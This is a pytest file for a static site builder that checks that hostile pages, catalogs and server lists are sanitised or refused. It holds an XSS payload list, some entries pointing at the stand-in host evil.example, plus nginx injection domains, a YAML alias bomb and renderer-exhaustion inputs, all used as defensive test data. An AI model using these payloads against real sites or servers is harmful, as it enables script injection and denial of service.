"""Hostile sources: nothing a page, a catalog, site.yaml or servers.yaml holds reaches a reader
as script, and every source that would escape the site or stall the build is refused."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Mapping
from html.parser import HTMLParser
from pathlib import Path

import pytest

from chatmail_site.build import build_site
from chatmail_site.core.safety import MAX_SOURCE_FILE_BYTES
from chatmail_site.deploy.nginx import DeployPlan, DeployPlanError
from chatmail_site.render.markdown import MarkdownRenderer, sanitize_html
from tests.support.sites import page

PNG = b"\x89PNG\r\n\x1a\n" + bytes(24)  # the start of a PNG file: enough for the type check

# Known ways into a page, from the XSS cheat sheets: each must come out harmless.
ATTACK_SNIPPETS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR =alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="jav\x00ascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name="p"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    '<math><maction xlink:href="javascript:alert(1)">x</maction></math>',
    '<a href="https://example.org" target="_blank">x</a>',
    '<a href="x" target="_parent" rel="opener">x</a>',
    "<style>body{display:none}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="float:right" onmouseover="alert(1)">x</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>x</details>",
    "[click](javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    '[x](https://example.org "title" onclick="alert(1)")',
    "[x](https://example.org){: onclick=alert(1) }",
    "## Heading {: onmouseover=alert(1) }",
    "<javascript:alert(1)>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
)
HOSTILE_TEXT = '"><script>alert(1)</script><img src=x onerror=alert(1)>'
_BAD_SCHEME = re.compile(r"^(?:javascript|vbscript|data):")
_URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "xlink:href", "srcset", "poster"})
_BROWSER_IGNORED = re.compile(r"[\x00-\x20\x7f]")


class _UnsafeMarkup(HTMLParser):
    """Collects what a browser would run: script tags, event handlers, script URLs."""

    def __init__(self, allowed_scripts: frozenset[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.allowed_scripts = allowed_scripts
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        # SVG itself is fine (the QR codes are trusted inline SVG); script inside it is not.
        trusted = tag == "script" and values.get("src") in self.allowed_scripts
        if tag in ("script", "iframe", "object", "embed", "form", "base", "style", "frame") and not trusted:
            self.found.append(f"<{tag}>")
        if tag == "meta" and (values.get("http-equiv") or "").lower() == "refresh":
            self.found.append("<meta http-equiv=refresh>")
        for name, value in attrs:
            if name.startswith("on") or name == "style" or name == "target":
                self.found.append(f"{name}= on <{tag}>")
            if name in _URL_ATTRIBUTES and _BAD_SCHEME.match(_BROWSER_IGNORED.sub("", value or "").lower()):
                self.found.append(f"{name}={value!r} on <{tag}>")


def unsafe_markup(html: str, allowed_scripts: frozenset[str] = frozenset()) -> list[str]:
    """Everything in `html` that could run script or hijack the page; empty when safe."""
    parser = _UnsafeMarkup(allowed_scripts)
    parser.feed(html)
    parser.close()
    return parser.found


def theme_scripts(files: Mapping[str, bytes]) -> frozenset[str]:
    """The theme's own script files as pages reference them (trusted; everything else is not)."""
    names = [name for name in files if name.startswith("assets/") and name.endswith(".js")]
    return frozenset(prefix + name for name in names for prefix in ("", "../", "../../", "../../../", "/"))


def unsafe_outputs(files: Mapping[str, bytes]) -> dict[str, list[str]]:
    """Every HTML output with something unsafe in it, with what was found."""
    allowed = theme_scripts(files)
    found = {}
    for name, data in files.items():
        if name.endswith(".html"):
            problems = unsafe_markup(data.decode("utf-8"), allowed)
            if problems:
                found[name] = problems
    return found


def messages(result) -> list[str]:
    return [d.format() for d in result.diagnostics]


# ---- sanitising -------------------------------------------------------------------------


@pytest.mark.parametrize("snippet", ATTACK_SNIPPETS)
def test_attack_snippets_come_out_harmless(snippet: str) -> None:
    rendered = MarkdownRenderer().render(f"Some text.\n\n{snippet}\n\nMore text with {snippet} inline.\n")
    assert not rendered.problems or all(not p.is_error for p in rendered.problems)
    assert unsafe_markup(rendered.html) == []
    assert "<script" not in rendered.html.lower()


def test_the_scanner_itself_sees_each_kind_of_attack() -> None:
    # Without this, an empty result above could come from a scanner that sees nothing.
    for raw in (
        "<script>x</script>",
        '<a href=" JAVA\tscript:x">',
        '<img src="data:image/svg+xml,x">',
        "<p onclick=x>",
        '<a target="_blank">',
        '<meta http-equiv="Refresh" content="0">',
        "<iframe>",
    ):
        assert unsafe_markup(raw), raw


def test_sanitising_keeps_what_pages_need() -> None:
    html = sanitize_html(
        '<h2 id="join">Join</h2><a class="cta-button" href="https://nine.testrun.org/">Go</a>'
        '<a href="DCACCOUNT:https://nine.testrun.org/new">QR</a><a href="mailto:a@b.example">m</a>'
        '<img src="../assets/a.png" alt="A" style="float:right">'
        '<table><tr><th>a</th></tr></table><pre><code class="language-ini">x</code></pre>'
    )
    assert '<h2 id="join">' in html
    assert '<a class="cta-button" href="https://nine.testrun.org/">' in html
    assert 'href="DCACCOUNT:https://nine.testrun.org/new"' in html
    assert 'href="mailto:a@b.example"' in html
    assert 'class="float-end"' in html and "style" not in html
    assert "<table>" in html and 'class="language-ini"' in html


def test_control_characters_never_reach_a_page() -> None:
    # Once the control character is gone, the scheme is plain `javascript:` and is dropped.
    assert sanitize_html('<a href="jav\x01ascript:x">a\x02b</a>') == "<a>ab</a>"


def test_a_forged_directive_placeholder_is_an_error_not_a_crash() -> None:
    rendered = MarkdownRenderer({"relays"}).render("Text CHATMAILSITEDIRECTIVE7X here.\n")
    assert [p.message for p in rendered.problems if p.is_error] == [
        "`CHATMAILSITEDIRECTIVE` is reserved for directives"
    ]


# ---- every field is escaped where it lands ---------------------------------------------


def test_hostile_site_title_and_front_matter_are_escaped_everywhere(make_site) -> None:
    quoted = json.dumps(HOSTILE_TEXT)
    site = make_site(
        {
            "site.yaml": f"title: {quoted}\ndefault_language: en\n",
            "content/en/index.md": page(
                quoted, "en", f"Body {HOSTILE_TEXT}\n", description=quoted, short_title=quoted, nav="1"
            ),
        }
    )
    result = build_site(site)
    assert not result.diagnostics.errors, messages(result)
    assert unsafe_outputs(result.files) == {}
    home = result.files["en/index.html"].decode()
    assert "&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in home  # the title, shown as text
    assert 'content="&#34;&gt;&lt;script&gt;' in home  # the meta description


def test_a_hostile_catalog_cannot_inject_markup(make_site) -> None:
    catalog = (
        'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n\n'
        'msgid "Skip to content"\nmsgstr "<script>alert(1)</script>Zum Inhalt"\n\n'
        'msgid "Donate"\nmsgstr "Spenden %(missing)s 100%"\n'
    )
    site = make_site(
        {
            "site.yaml": "title: T\ndefault_language: en\nlanguages: [en, de]\n",
            "content/de/index.md": page("Start", "de"),
            "locales/de/LC_MESSAGES/messages.po": catalog,
        }
    )
    result = build_site(site)
    assert unsafe_outputs(result.files) == {}
    german = result.files["de/index.html"].decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;Zum Inhalt" in german
    assert ">Donate<" in german  # a translation that would break formatting falls back to English


def test_hostile_relay_entries_are_refused_or_escaped(make_site) -> None:
    servers = (
        "- domain: 'evil.example\"><script>alert(1)</script>'\n"
        "- domain: 'ok.example;include /etc/passwd'\n"
        "- domain: nine.testrun.org\n"
        f"  operator: {json.dumps(HOSTILE_TEXT)}\n"
        f"  notes:\n    en: {json.dumps(HOSTILE_TEXT)}\n"
    )
    site = make_site(
        {
            "content/servers.yaml": servers,
            "content/en/index.md": page("Home", "en", "{% relays %}\n"),
        }
    )
    result = build_site(site)
    refused = [d for d in result.diagnostics.errors if d.path.endswith("servers.yaml")]
    assert {d.line for d in refused} == {1, 2}
    (site / "content/servers.yaml").write_text("- domain: nine" + servers.split("- domain: nine", 1)[1])
    result = build_site(site)
    assert not result.diagnostics.errors, messages(result)
    assert unsafe_outputs(result.files) == {}
    relay_page = next(data for name, data in result.files.items() if "nine.testrun.org" in name).decode()
    assert "&lt;script&gt;" in relay_page
    listing = json.loads(result.files["servers.json"])  # valid JSON, holding only validated fields
    assert [relay["domain"] for relay in listing["relays"]] == ["nine.testrun.org"]


@pytest.mark.parametrize(
    "domain",
    ["evil.example;\ninclude /etc/passwd", "evil.example } server {", "$host", "a b.example", "../x.example"],
)
def test_a_domain_that_is_not_a_domain_never_reaches_nginx(domain: str) -> None:
    with pytest.raises(DeployPlanError):
        DeployPlan(
            domain=domain, languages=("en",), default_language="en", pages={"en": frozenset({"index"})}
        )


# ---- sources that point outside the site, or would stall it ----------------------------


@pytest.mark.parametrize(
    "link", ["content/en/secret.md", "content/assets/passwd.txt", "themes/default/static/x.css", "locales/de"]
)
def test_links_out_of_the_site_are_errors(make_site, tmp_path: Path, link: str) -> None:
    outside = tmp_path / "outside-secret"
    outside.write_text("---\ntitle: s\nlang: en\n---\nSECRET\n")
    site = make_site({})
    (site / link).parent.mkdir(parents=True, exist_ok=True)
    (site / link).symlink_to(outside)
    result = build_site(site)
    where = "the theme folder" if link.startswith("themes/") else "the site folder"
    assert [(d.path, d.message.split(" (")[0]) for d in result.diagnostics.errors] == [
        (link, f"this link points outside {where}")
    ]
    assert not any(b"SECRET" in data for data in result.files.values())


@pytest.mark.timeout(30)
def test_a_pipe_in_the_assets_is_an_error_not_a_hang(make_site) -> None:
    site = make_site({"content/assets/keep.txt": "x"})
    os.mkfifo(site / "content/assets/pipe")
    result = build_site(site)
    assert [d.format().splitlines()[0] for d in result.diagnostics.errors] == [
        "content/assets/pipe:0: error: this is not a regular file (a pipe, socket or device)"
    ]


def test_an_oversized_asset_is_refused(make_site) -> None:
    site = make_site({})
    (site / "content/assets").mkdir()
    with (site / "content/assets/big.pdf").open("wb") as handle:
        handle.truncate(MAX_SOURCE_FILE_BYTES + 1)  # sparse: no real disk use
    result = build_site(site)
    assert [d.path for d in result.diagnostics.errors] == ["content/assets/big.pdf"]


@pytest.mark.parametrize(
    ("files", "output"),
    [
        (
            {
                "content/assets/old.txt": "old",
                "content/en/join.md": page("Join", "en", aliases="[/assets/old.txt]"),
            },
            "assets/old.txt",
        ),
        ({"themes/default/static/logo.png": PNG, "content/assets/logo.png": PNG}, "assets/logo.png"),
    ],
)
def test_two_sources_writing_one_output_is_an_error(make_site, files, output: str) -> None:
    result = build_site(make_site(files))
    assert any(f"`{output}` would be" in d.message for d in result.diagnostics.errors), messages(result)


def test_a_path_that_would_be_both_a_file_and_a_folder_is_an_error(make_site) -> None:
    site = make_site({"content/en/join.md": page("Join", "en", aliases="[/robots.txt/]")})
    result = build_site(site)
    assert any(
        "`robots.txt` would be both a file and a folder" in d.message for d in result.diagnostics.errors
    ), messages(result)


def test_a_language_that_is_a_path_is_refused(make_site) -> None:
    result = build_site(
        make_site({"site.yaml": "title: T\ndefault_language: en\nlanguages: [en, ../../x]\n"})
    )
    assert result.diagnostics.errors and result.files == {}


# ---- bounded work ----------------------------------------------------------------------


def _single_error(result) -> str:
    errors = result.diagnostics.errors
    assert len(errors) >= 1, messages(result)
    return errors[0].message


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("word " * 2_100_000, "larger than the 512 KiB limit"),  # a 10 MB page
        ("\n".join("    " * i + "- item" for i in range(60)), "nested more than 40 levels"),
        ("\n".join("> " * i + "quote" for i in range(1, 60)), "nested more than 40 levels"),
        ("[" * 5000, "over 100 `[` brackets"),
        ("\n".join("<a x" for _ in range(300)), "more than 200 `<` signs"),
        ("long " * 10_000, "more than 20000 characters"),
        ("*a" * 15_000, "more than 20000 characters"),
    ],
    ids=["10MB", "indented-lists", "quotes", "brackets", "unclosed-tags", "long-line", "emphasis"],
)
def test_pathological_pages_get_a_diagnostic_in_bounded_time(make_site, body: str, expected: str) -> None:
    result = build_site(make_site({"content/en/big.md": page("Big", "en", body)}))
    assert expected in _single_error(result)


@pytest.mark.timeout(60)
def test_a_page_at_the_size_limit_of_the_slowest_allowed_shape_renders() -> None:
    # Just under every limit: paragraphs of unbalanced emphasis, the slowest shape found.
    paragraph = "\n".join(["*a" * 100] * 90)
    rendered = MarkdownRenderer().render("\n\n".join([paragraph] * 28))
    assert not rendered.problems


@pytest.mark.timeout(30)
@pytest.mark.parametrize(
    ("front", "expected"),
    [
        ("a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]", "aliases (*name) are not allowed"),
        ("title: " + "[" * 50_000 + "]" * 50_000, "nested too deeply"),
        ("\n".join(f"key{i}: value" for i in range(40_000)), "larger than the 512 KiB limit"),
        ("title: a\x1fb", "control character U+001F"),
    ],
    ids=["alias-bomb", "deep-yaml", "huge-front-matter", "control-character"],
)
def test_hostile_front_matter_gets_a_diagnostic(make_site, front: str, expected: str) -> None:
    result = build_site(make_site({"content/en/x.md": f"---\nlang: en\n{front}\n---\nText\n"}))
    assert expected in _single_error(result)


def test_binary_files_in_a_language_folder(make_site) -> None:
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))
    result = build_site(make_site({"content/en/photo.png": png, "content/en/broken.md": png}))
    assert [(d.path, d.severity.value) for d in result.diagnostics.sorted()] == [
        ("content/en/broken.md", "error"),
        ("content/en/photo.png", "warning"),
    ]


@pytest.mark.timeout(60)
def test_ten_thousand_relays_load_in_bounded_time(tmp_path: Path) -> None:
    from datetime import date

    from chatmail_site.core.errors import Diagnostics
    from chatmail_site.load.servers import load_servers

    path = tmp_path / "servers.yaml"
    path.write_text("".join(f"- domain: relay{i}.example.org\n  since: 2024-01\n" for i in range(10_000)))
    diagnostics = Diagnostics()
    relays = load_servers(path, diagnostics, today=date(2025, 1, 1))
    assert len(relays) == 10_000 and not diagnostics.errors


def test_an_alias_bomb_in_servers_yaml_is_refused(make_site) -> None:
    bomb = "- &a {domain: a.example}\n- *a\n"
    result = build_site(make_site({"content/servers.yaml": bomb}))
    assert any("aliases" in d.message and d.line == 2 for d in result.diagnostics.errors), messages(result)
